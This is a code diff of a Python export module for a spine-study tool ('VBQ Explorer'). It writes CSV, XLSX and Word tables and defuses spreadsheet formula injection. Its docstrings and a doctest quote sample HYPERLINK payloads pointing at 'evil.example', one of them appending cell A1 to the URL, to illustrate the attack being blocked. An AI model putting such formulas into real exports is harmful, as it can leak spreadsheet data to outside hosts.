@@ -1,78 +1,106 @@
-"""Exports that are safe to open in a spreadsheet: the one place every CSV/XLSX export goes through.
+"""Every file a table leaves the product in: CSV, XLSX and the study's Word document.
 
-A spreadsheet (Excel, LibreOffice Calc, Google Sheets) reads a text cell that starts with ``=``,
-``+``, ``-`` or ``@`` as a formula, so a patient ID or a note such as
-``=HYPERLINK("http://evil.example/?"&A1,"click")`` becomes live when an export is opened
-("CSV injection" / formula injection; OWASP; ASVS 5.0 requirement 1.2.10). `safe_cell`
-neutralises such a cell by prefixing a single quote, which spreadsheets show as text; numbers,
-booleans, dates and missing values are never changed. `neutralise_frame` applies it to every text
-cell of a table, and `safe_csv` writes a table through it.
+All CSV and XLSX exports go through this module, which makes them safe to open in a spreadsheet:
+a text cell that starts (after any spaces) with ``=``, ``+``, ``-``, ``@`` (or their full-width
+forms), a tab, a line break or a NUL (what Excel, LibreOffice and Google Sheets read as the start
+of a formula, or what hides it) is prefixed with an apostrophe (`neutralise_formula`), in both the
+"as shown" and the "data" forms, headers included. Numbers are
+never touched: a negative number stays a number (an XLSX numeric cell; in a CSV its digits, which
+no spreadsheet reads as a formula).
 
-The triggers are the first character (after any leading spaces, which some spreadsheets skip)
-being one of ``= + - @``, their full-width forms ``＝ ＋ － ＠``, a tab, a carriage return, a line
-feed or a NUL.
+Two forms of a `vbq.present.FormattedTable`:
 
-References
-----------
-OWASP. CSV Injection. https://owasp.org/www-community/attacks/CSV_Injection
-OWASP Application Security Verification Standard 5.0, requirement 1.2.10 (CSV and formula
-injection).
+* ``"shown"``: the table as printed (strings, human headers), with its title above and its
+  footnotes below; in XLSX the rows under a variable are indented;
+* ``"data"``: the tidy table at full precision with its documented snake_case columns, nothing
+  above or below it, numbers as numbers.
+
+The Word document (`study_docx`, python-docx) holds Tables 1-5 in journal style: three-line tables
+(rules above and below the header and below the last row), titles above, footnotes below.
 """
 
 from __future__ import annotations
 
-import io as _stdio
+import csv
+import datetime as _dt
+import io
+import math
 import os
+import re
+from collections.abc import Mapping, Sequence
 from typing import Any
 
 import numpy as np
 import pandas as pd
 
-__all__ = ["FORMULA_TRIGGERS", "safe_cell", "neutralise_frame", "safe_csv"]
+from .errors import InputError
+from .present import FormattedTable
+
+__all__ = [
+    "FORMULA_TRIGGERS",
+    "FORMS",
+    "neutralise_formula",
+    "safe_cell",
+    "neutralise_frame",
+    "safe_frame",
+    "safe_csv",
+    "frame_csv",
+    "frame_xlsx",
+    "table_csv",
+    "table_xlsx",
+    "tables_xlsx",
+    "tables_docx",
+    "study_docx",
+    "XLSX_MIME",
+    "DOCX_MIME",
+]
 
 FORMULA_TRIGGERS: tuple[str, ...] = (
     "=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20",
 )
-"""First characters that make a spreadsheet read a text cell as a formula (or hide its start)."""
+"""First characters that make a spreadsheet read a text cell as a formula, or hide its start
+(OWASP, "CSV injection"; ASVS 5.0 requirement 1.2.10), full-width forms included; checked after
+any leading spaces, which some spreadsheets skip. Such a cell is exported with a leading
+apostrophe instead."""
 
-_QUOTE = "'"
+FORMS = ("shown", "data")
+XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+DOCX_MIME = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+
+_MAX_WIDTH = 60
+_SHEET_BAD = re.compile(r"[\[\]:*?/\\]")
 
 
-def safe_cell(value: Any) -> Any:
-    """`value`, neutralised for a spreadsheet if it is text that would be read as a formula.
+# ---------------------------------------------------------------------------------------------
+# The one neutraliser
 
-    Parameters
-    ----------
-    value : any
-        One cell. Only ``str`` values are ever changed.
 
-    Returns
-    -------
-    any
-        A text cell whose first character (after leading spaces) is in `FORMULA_TRIGGERS`, with
-        a single quote prefixed (``"=1+1"`` -> ``"'=1+1"``); anything else unchanged, so
-        numbers (``-1.5``), booleans, timestamps and missing values stay as they are.
+def neutralise_formula(value: Any) -> Any:
+    """`value` made inert for a spreadsheet: a string starting with one of `FORMULA_TRIGGERS`
+    gets a leading apostrophe; anything else (numbers, including negative ones, booleans,
+    missing values, other strings) comes back unchanged.
 
     Examples
     --------
-    >>> safe_cell("=1+1")
-    "'=1+1"
-    >>> safe_cell("DEMO-001"), safe_cell(-2.5), safe_cell("-2.5")
-    ('DEMO-001', -2.5, "'-2.5")
+    >>> neutralise_formula('=HYPERLINK("http://evil.example","x")')
+    '\\'=HYPERLINK("http://evil.example","x")'
+    >>> neutralise_formula(-1.5)
+    -1.5
     """
     if isinstance(value, str) and value:
         first = value.lstrip(" ")[:1] or value[:1]
         if first in FORMULA_TRIGGERS:
-            return _QUOTE + value
+            return "'" + value
     return value
 
 
-def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
-    """A copy of `frame` with every text cell (and text column header) passed through `safe_cell`.
+safe_cell = neutralise_formula
+"""The name `vbq.measurements` uses for `neutralise_formula` (the same function)."""
 
-    Parameters
-    ----------
-    frame : DataFrame
+
+def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of `frame` with every text cell (and text column header) passed through
+    `neutralise_formula`.
 
     Returns
     -------
@@ -97,15 +125,24 @@ def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
             texts = np.fromiter((isinstance(v, str) for v in values), bool, len(values))
             if texts.any():
                 values = values.copy()
-                values[texts] = [safe_cell(v) for v in values[texts]]
+                values[texts] = [neutralise_formula(v) for v in values[texts]]
                 dtype = col.dtype if isinstance(col.dtype, pd.StringDtype) else object
                 out.isetitem(j, pd.Series(values, index=out.index, dtype=dtype))
-    out.columns = [safe_cell(c) for c in out.columns]
+    out.columns = [neutralise_formula(c) for c in out.columns]
     return out
 
 
-def safe_csv(frame: pd.DataFrame, target: str | os.PathLike | Any | None = None, **kwargs) -> str | None:
-    """Write `frame` as CSV through `neutralise_frame`.
+def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of `frame` with every text cell and header passed through `neutralise_formula`
+    (headers as text); numeric columns are left as they are."""
+    out = frame.copy()
+    out.columns = [str(c) for c in out.columns]
+    return neutralise_frame(out)
+
+
+def safe_csv(frame: pd.DataFrame, target: str | os.PathLike | Any | None = None,
+             **kwargs) -> str | None:
+    """Write `frame` as CSV text through `neutralise_frame` (the measurement exports).
 
     Parameters
     ----------
@@ -125,8 +162,422 @@ def safe_csv(frame: pd.DataFrame, target: str | os.PathLike | Any | None = None,
     kwargs.setdefault("lineterminator", "\n")
     safe = neutralise_frame(frame)
     if target is None:
-        buf = _stdio.StringIO()
+        buf = io.StringIO()
         safe.to_csv(buf, **kwargs)
         return buf.getvalue()
     safe.to_csv(target, **kwargs)
     return None
+
+
+def _form(table: FormattedTable, form: str) -> pd.DataFrame:
+    if form not in FORMS:
+        raise InputError(f"form: expected one of {FORMS}, got {form!r}")
+    return table.display(indent="  ") if form == "shown" else table.data
+
+
+# ---------------------------------------------------------------------------------------------
+# CSV
+
+
+_EOL = "\r\n"
+"""RFC 4180 line ends; with them the csv module also quotes a field holding a lone carriage
+return, which would otherwise split the row in a spreadsheet."""
+
+
+def frame_csv(frame: pd.DataFrame) -> bytes:
+    """`frame` as CSV (RFC 4180: CRLF line ends, fields with a delimiter, quote or line break
+    quoted; UTF-8 with a byte-order mark, so Excel reads "±" and "²"), no index, every text cell
+    neutralised."""
+    return safe_frame(frame).to_csv(index=False, lineterminator=_EOL).encode("utf-8-sig")
+
+
+def table_csv(table: FormattedTable, form: str = "shown") -> bytes:
+    """A `FormattedTable` as CSV. ``"shown"``: the title on the first line, the table, then the
+    footnotes one per line; ``"data"``: the tidy table alone, full precision."""
+    if form == "data":
+        return frame_csv(table.data)
+    body = safe_frame(_form(table, "shown")).to_csv(index=False, lineterminator=_EOL)
+    buf = io.StringIO()
+    w = csv.writer(buf, lineterminator=_EOL)
+    w.writerow([neutralise_formula(table.title)])
+    text = buf.getvalue() + body
+    if table.footnotes:
+        buf = io.StringIO()
+        w = csv.writer(buf, lineterminator=_EOL)
+        for note in table.footnotes:
+            w.writerow([neutralise_formula(note)])
+        text += buf.getvalue()
+    return text.encode("utf-8-sig")
+
+
+# ---------------------------------------------------------------------------------------------
+# XLSX
+
+
+def _cell_value(v: Any) -> Any:
+    """A value openpyxl writes with the right type: numbers as numbers, text neutralised."""
+    if v is None or v is pd.NA or v is pd.NaT:
+        return None
+    if isinstance(v, bool | np.bool_):
+        return bool(v)
+    if isinstance(v, int | np.integer):
+        return int(v)
+    if isinstance(v, float | np.floating):
+        v = float(v)
+        if math.isnan(v):
+            return None
+        if math.isinf(v):
+            return "\u221e" if v > 0 else "\u2212\u221e"
+        return v
+    if isinstance(v, pd.Timestamp):
+        return v.to_pydatetime()
+    if isinstance(v, _dt.datetime | _dt.date):
+        return v
+    return neutralise_formula(str(v))
+
+
+def _sheet_name(name: str, used: set[str]) -> str:
+    base = _SHEET_BAD.sub("_", str(name)).strip("'")[:31] or "Sheet"
+    out, k = base, 2
+    while out.lower() in used:
+        suffix = f" ({k})"
+        out = base[:31 - len(suffix)] + suffix
+        k += 1
+    used.add(out.lower())
+    return out
+
+
+def _column_values(col: pd.Series) -> list:
+    """One column as the values openpyxl writes (`_cell_value`), converted column-wise: the
+    per-cell path costs about 30 s for a 10,000 x 100 table, this one a few."""
+    dtype = col.dtype
+    if pd.api.types.is_float_dtype(dtype) and not isinstance(dtype, pd.api.extensions.ExtensionDtype):
+        arr = col.to_numpy(dtype=float)
+        out = arr.tolist()
+        for i in np.flatnonzero(~np.isfinite(arr)).tolist():
+            out[i] = _cell_value(arr[i])
+        return out
+    if pd.api.types.is_integer_dtype(dtype) and not isinstance(dtype, pd.api.extensions.ExtensionDtype):
+        return col.to_numpy().tolist()
+    if pd.api.types.is_bool_dtype(dtype) and not isinstance(dtype, pd.api.extensions.ExtensionDtype):
+        return col.to_numpy().tolist()
+    return [_cell_value(v) for v in col.to_numpy(dtype=object).tolist()]
+
+
+def _width(values: Sequence[Any], header: Any, sample: int = 2000) -> int:
+    longest = max((len(str(v)) for v in values[:sample] if v is not None), default=0)
+    return min(_MAX_WIDTH, max(8, max(longest, len(str(header))) + 2))
+
+
+def _styled(ws, value: Any, **style):
+    from openpyxl.cell import WriteOnlyCell
+
+    cell = WriteOnlyCell(ws, value=_cell_value(value))
+    for k, v in style.items():
+        setattr(cell, k, v)
+    return cell
+
+
+def _set_widths(ws, widths: Sequence[int]) -> None:
+    from openpyxl.utils import get_column_letter
+
+    for j, w in enumerate(widths, start=1):
+        ws.column_dimensions[get_column_letter(j)].width = w
+
+
+def _data_sheet(wb, frame: pd.DataFrame, name: str) -> None:
+    """A tidy table: bold header, frozen, typed cells, columns sized to their content."""
+    from openpyxl.styles import Font
+
+    ws = wb.create_sheet(name)
+    columns = [_column_values(frame.iloc[:, j]) for j in range(frame.shape[1])]
+    _set_widths(ws, [_width(v, h) for v, h in zip(columns, frame.columns, strict=True)])
+    ws.freeze_panes = "A2"
+    bold = Font(bold=True)
+    ws.append([_styled(ws, str(h), font=bold) for h in frame.columns])
+    for row in zip(*columns, strict=True):
+        ws.append(row)
+
+
+def _shown_sheet(wb, table: FormattedTable, name: str) -> None:
+    """A table as printed: title, blank row, header over a rule, rows (indented where they sit
+    under a variable), a rule under the last row, blank row, footnotes."""
+    from openpyxl.styles import Alignment, Border, Font, Side
+
+    ws = wb.create_sheet(name)
+    shown = table.shown
+    columns = [[_cell_value(v) for v in shown.iloc[:, j].tolist()] for j in range(shown.shape[1])]
+    widths = [_width(v, h) for v, h in zip(columns, shown.columns, strict=True)]
+    levels = table.levels()
+    if widths and any(levels):
+        widths[0] = min(_MAX_WIDTH, widths[0] + 2 * max(levels))
+    _set_widths(ws, widths)
+    bold, rule = Font(bold=True), Border(bottom=Side(style="thin"))
+    ws.append([_styled(ws, table.title, font=bold)])
+    ws.append([])
+    ws.append([_styled(ws, str(h), font=bold, border=rule) for h in shown.columns])
+    last = len(shown) - 1
+    for i, row in enumerate(zip(*columns, strict=True)):
+        cells = []
+        for j, v in enumerate(row):
+            style: dict = {}
+            if j == 0 and levels[i]:
+                style["alignment"] = Alignment(indent=2 * levels[i])
+            if i == last:
+                style["border"] = rule
+            cells.append(_styled(ws, v, **style) if style else v)
+        ws.append(cells)
+    if table.footnotes:
+        ws.append([])
+        for note in table.footnotes:
+            ws.append([_cell_value(note)])
+
+
+def _workbook_bytes(wb) -> bytes:
+    if not wb.sheetnames:
+        wb.create_sheet("empty")
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue()
+
+
+def tables_xlsx(tables: Sequence[FormattedTable] | FormattedTable,
+                forms: Sequence[str] = FORMS, *, settings_json: str | None = None) -> bytes:
+    """One workbook, one sheet per table and form ("table2" as shown, "table2 data"), and with
+    `settings_json` a last sheet "settings" holding it. Cells are typed (numbers as numbers),
+    columns sized to their content, every text cell neutralised."""
+    from openpyxl import Workbook
+
+    if isinstance(tables, FormattedTable):
+        tables = [tables]
+    for f in forms:
+        if f not in FORMS:
+            raise InputError(f"forms: expected some of {FORMS}, got {f!r}")
+    wb = Workbook(write_only=True)
+    used: set[str] = set()
+    for t in tables:
+        for f in forms:
+            if f == "shown":
+                _shown_sheet(wb, t, _sheet_name(t.key, used))
+            else:
+                _data_sheet(wb, t.data, _sheet_name(f"{t.key} data", used))
+    if settings_json is not None:
+        ws = wb.create_sheet(_sheet_name("settings", used))
+        ws.column_dimensions["A"].width = _MAX_WIDTH
+        ws.append([_cell_value(settings_json)])
+    return _workbook_bytes(wb)
+
+
+def table_xlsx(table: FormattedTable, form: str = "shown") -> bytes:
+    """A `FormattedTable` as a one-sheet workbook in `form` ("shown" or "data")."""
+    return tables_xlsx([table], forms=(form,))
+
+
+def frame_xlsx(frames: pd.DataFrame | Mapping[str, pd.DataFrame], sheet: str = "data") -> bytes:
+    """DataFrames (one, or ``{sheet name: frame}``) as a workbook: typed cells, sized columns,
+    text neutralised (openpyxl's write-only mode: memory stays flat on long tables; about 15 µs
+    per cell, 20 s for a 10,000 x 104 table, so the app offers CSV alone above 250,000 cells)."""
+    from openpyxl import Workbook
+
+    if isinstance(frames, pd.DataFrame):
+        frames = {sheet: frames}
+    wb = Workbook(write_only=True)
+    used: set[str] = set()
+    for name, frame in frames.items():
+        _data_sheet(wb, frame, _sheet_name(name, used))
+    return _workbook_bytes(wb)
+
+
+# ---------------------------------------------------------------------------------------------
+# Word
+
+
+def _border(tag: str, val: str = "single", size: int = 8):
+    from docx.oxml import OxmlElement
+    from docx.oxml.ns import qn
+
+    el = OxmlElement(f"w:{tag}")
+    el.set(qn("w:val"), val)
+    el.set(qn("w:sz"), str(size))
+    el.set(qn("w:space"), "0")
+    el.set(qn("w:color"), "000000")
+    return el
+
+
+def _three_line(table) -> None:
+    """Rules above and below the header row and below the last row; no other lines."""
+    from docx.oxml import OxmlElement
+    from docx.oxml.ns import qn
+
+    tbl_pr = table._tbl.tblPr
+    borders = OxmlElement("w:tblBorders")
+    for tag, val in (("top", "single"), ("left", "nil"), ("bottom", "single"),
+                     ("right", "nil"), ("insideH", "nil"), ("insideV", "nil")):
+        borders.append(_border(tag, val, 8 if val == "single" else 0))
+    tbl_pr.append(borders)
+    for cell in table.rows[0].cells:
+        tc_pr = cell._tc.get_or_add_tcPr()
+        tc_borders = OxmlElement("w:tcBorders")
+        tc_borders.append(_border("bottom", "single", 4))
+        tc_pr.append(tc_borders)
+    # the header row repeats on every page
+    tr_pr = table.rows[0]._tr.get_or_add_trPr()
+    tr_pr.append(OxmlElement("w:tblHeader"))
+    tr_pr.find(qn("w:tblHeader")).set(qn("w:val"), "true")
+
+
+def _run(paragraph, text: str, *, bold: bool = False, size: float | None = None) -> None:
+    """A run of `text`; font and size come from the Normal style unless `size` is given
+    (setting them on every run costs most of the document's build time)."""
+    from docx.shared import Pt
+
+    run = paragraph.add_run(text)
+    if bold:
+        run.bold = True
+    if size is not None:
+        run.font.size = Pt(size)
+
+
+def _add_table(doc, table: FormattedTable, font: str, size: float) -> None:
+    from docx.enum.table import WD_TABLE_ALIGNMENT
+    from docx.enum.text import WD_ALIGN_PARAGRAPH
+    from docx.shared import Pt
+
+    title = doc.add_paragraph()
+    title.paragraph_format.keep_with_next = True
+    title.paragraph_format.space_before = Pt(12)
+    head, _, rest = table.title.partition(". ")
+    if rest and head.startswith("Table"):
+        _run(title, head + ". ", bold=True)
+        _run(title, rest)
+    else:
+        _run(title, table.title, bold=True)
+    shown = table.shown
+    if len(shown.columns):
+        t = doc.add_table(rows=1 + len(shown), cols=len(shown.columns))
+        t.alignment = WD_TABLE_ALIGNMENT.CENTER
+        levels = table.levels()
+        rows = t.rows
+        for j, (cell, c) in enumerate(zip(rows[0].cells, shown.columns, strict=True)):
+            p = cell.paragraphs[0]
+            _run(p, str(c), bold=True)
+            if j:
+                p.alignment = WD_ALIGN_PARAGRAPH.CENTER
+        for i, values in enumerate(shown.itertuples(index=False)):
+            for j, (cell, v) in enumerate(zip(rows[i + 1].cells, values, strict=True)):
+                p = cell.paragraphs[0]
+                p.paragraph_format.space_after = Pt(0)
+                _run(p, str(v))
+                if j == 0 and levels[i]:
+                    p.paragraph_format.left_indent = Pt(size * levels[i])
+                elif j:
+                    p.alignment = WD_ALIGN_PARAGRAPH.CENTER
+        _three_line(t)
+    for note in table.footnotes:
+        p = doc.add_paragraph()
+        p.paragraph_format.space_after = Pt(0)
+        _run(p, note)
+
+
+def tables_docx(tables: Sequence[FormattedTable], *, heading: str | None = None,
+                lines: Sequence[str] = (), font: str = "Times New Roman",
+                size: float = 10) -> bytes:
+    """`tables` as a Word document in journal style: each title above its three-line table,
+    footnotes below, in `font` at `size` pt; a table wider than six columns gets a landscape
+    page. `heading` and `lines` (plain paragraphs) open the document."""
+    from docx import Document
+    from docx.enum.section import WD_ORIENT, WD_SECTION
+    from docx.shared import Cm, Pt
+
+    if size <= 0:
+        raise InputError(f"size: expected a positive font size, got {size!r}")
+    from docx.oxml.ns import qn
+
+    doc = Document()
+    normal = doc.styles["Normal"]
+    normal.font.name = font
+    normal.font.size = Pt(size)
+    rfonts = normal.element.get_or_add_rPr().find(qn("w:rFonts"))
+    if rfonts is not None:  # East Asian text in the same font
+        rfonts.set(qn("w:eastAsia"), font)
+    section = doc.sections[0]
+    section.page_width, section.page_height = Cm(21.0), Cm(29.7)
+    for side in ("left_margin", "right_margin", "top_margin", "bottom_margin"):
+        setattr(section, side, Cm(2.0))
+    if heading:
+        _run(doc.add_paragraph(), heading, bold=True, size=size + 2)
+    for line in lines:
+        p = doc.add_paragraph()
+        p.paragraph_format.space_after = Pt(0)
+        _run(p, line)
+    landscape = False
+    for t in tables:
+        wide = len(t.shown.columns) > 6
+        if wide != landscape:
+            sec = doc.add_section(WD_SECTION.NEW_PAGE)
+            sec.orientation = WD_ORIENT.LANDSCAPE if wide else WD_ORIENT.PORTRAIT
+            long, short = Cm(29.7), Cm(21.0)
+            sec.page_width, sec.page_height = (long, short) if wide else (short, long)
+            landscape = wide
+        _add_table(doc, t, font, size)
+    props = doc.core_properties
+    props.title = heading or "Tables"
+    props.author = "VBQ Explorer"
+    buf = io.BytesIO()
+    doc.save(buf)
+    return buf.getvalue()
+
+
+def study_docx(analysis, prepared=None, *, kappas: Mapping | None = None,
+               font: str = "Times New Roman", size: float = 10, decimals: int = 1,
+               rounding: str = "specific", supplementary: bool = True) -> bytes:
+    """The study's tables as one Word document (`vbq.present.study_tables`): Table 1 (the
+    criteria in force, when `prepared` is given), Tables 2-5 and, with ``supplementary=True``,
+    the prevalence and reliability tables, in journal style (`tables_docx`).
+
+    Parameters
+    ----------
+    analysis : vbq.study.StudyAnalysis
+        `vbq.study.analyse(prepared)`.
+    prepared : vbq.PreparedCohort, optional
+        Its settings give Table 1; its counts and thresholds open the document.
+    kappas : mapping, optional, keyword-only
+        `vbq.study.grouping_kappa(cohort, settings.criteria)`, to add the grouping's
+        reliability.
+    font : str, keyword-only
+        "Times New Roman" (default) or "Arial", or any installed font.
+    size : float, keyword-only
+        Point size of the whole document (default 10).
+    decimals, rounding : keyword-only
+        Of Table 4's adjusted cutoff (`vbq.study.cutoff_table`).
+
+    Returns
+    -------
+    bytes
+        The .docx file.
+
+    Examples
+    --------
+    >>> import vbq, vbq.export
+    >>> prepared = vbq.prepare_cohort(*vbq.demo.load())
+    >>> data = vbq.export.study_docx(vbq.study.analyse(prepared), prepared)
+    >>> data[:2]
+    b'PK'
+    """
+    from .present import study_tables
+
+    tables = study_tables(analysis, prepared, kappas=kappas, decimals=decimals,
+                          rounding=rounding)
+    if not supplementary:
+        tables = [t for t in tables if t.key.startswith("table")]
+    lines: list[str] = []
+    if prepared is not None:
+        c, t = prepared.counts, prepared.thresholds
+        lines = [
+            f"Cohort: {c.n_cohort} patients, {c.n_analysed} analysed ({c.n_degenerative} "
+            f"degenerative, {c.n_control} control), {c.n_excluded} excluded.",
+            f"VBQ thresholds: osteopenia {t.vbq_osteopenia:g} ({t.source_osteopenia}), "
+            f"osteoporosis {t.vbq_osteoporosis:g} ({t.source_osteoporosis}).",
+        ]
+    return tables_docx(tables, heading="VBQ Explorer: the study's tables", lines=lines,
+                       font=font, size=size)
